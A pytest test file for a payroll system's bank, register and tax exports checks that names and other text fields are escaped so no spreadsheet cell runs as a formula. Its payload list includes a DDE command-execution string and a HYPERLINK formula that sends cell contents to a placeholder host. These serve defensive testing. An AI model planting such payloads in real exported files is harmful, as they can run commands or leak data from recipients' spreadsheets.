"""Whatever a person is called, no file that goes out runs it as a formula."""

import csv
import io
from dataclasses import replace

import openpyxl
import pytest
from bank_examples import batch, line

from hrdesk.exchange.bank_file import write_bank_csv, write_bank_xlsx
from hrdesk.exchange.bank_layouts import load_bank_layout
from hrdesk.exchange.register_file import RegisterRow, write_register
from hrdesk.exchange.tax_rows import TEXT_FIELDS, TaxSalaryRow
from hrdesk.exchange.tax_salary_file import write_tax_salary
from hrdesk.exchange.tax_templates import load_tax_map, own_template

MARKS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋")
BODIES = ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://entity.invalid/?"&A1,"x")', 'DDE("a","b")')
PAYLOADS = [mark + body for mark in MARKS for body in BODIES]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")
IDENTITY = "320500199107157175"

BANK = load_bank_layout("generic@1")
TAX = own_template(load_tax_map())
REGISTER = RegisterRow("HL0001", "潘国", "生产一部", "苏州", 100, 0, 0, -100, 0, 0, 100, 100)
DECLARED = TaxSalaryRow("HL0001", "潘国", "居民身份证", IDENTITY, income=100)


def texts_of(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode(), newline=""))
    return [cell for row in rows for cell in row]


def assert_no_formula(content: bytes) -> list[str]:
    """No cell of the workbook is a formula, and every text cell says that it is text; gives the texts."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    return [cell.value for cell in cells if cell.data_type == "s"]


def is_number(text: str) -> bool:
    return text.removeprefix("-").replace(".", "", 1).isdigit()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_the_bank_file_is_run(payload: str) -> None:
    for field in ("name", "account_name", "bank", "remark"):
        pay = batch(line(**{field: payload}))
        cells = texts_of(write_bank_csv(BANK, pay).content)
        assert not [cell for cell in cells if cell.startswith(RUNS)]
        shown = assert_no_formula(write_bank_xlsx(BANK, pay).content)
        assert "6228480000004004917" in shown
        assert " ".join(payload.split()) in shown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_the_register_is_run(payload: str) -> None:
    for field in ("employee_no", "name", "department", "city"):
        cells = texts_of(write_register([replace(REGISTER, **{field: payload})]).content)
        assert not [cell for cell in cells if cell.startswith(RUNS) and not is_number(cell)]
        assert "-1.00" in cells
        assert "'" + payload in cells


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_the_tax_file_is_run(payload: str) -> None:
    for field in TEXT_FIELDS:
        shown = assert_no_formula(write_tax_salary(TAX, [replace(DECLARED, **{field: payload})]).content)
        assert (IDENTITY in shown) is (field != "id_number")


def test_an_identity_number_keeps_its_18_digits_and_its_x() -> None:
    for number in (IDENTITY, "11010119900307867X", "000000000000000001"):
        assert number in assert_no_formula(
            write_tax_salary(TAX, [replace(DECLARED, id_number=number)]).content
        )
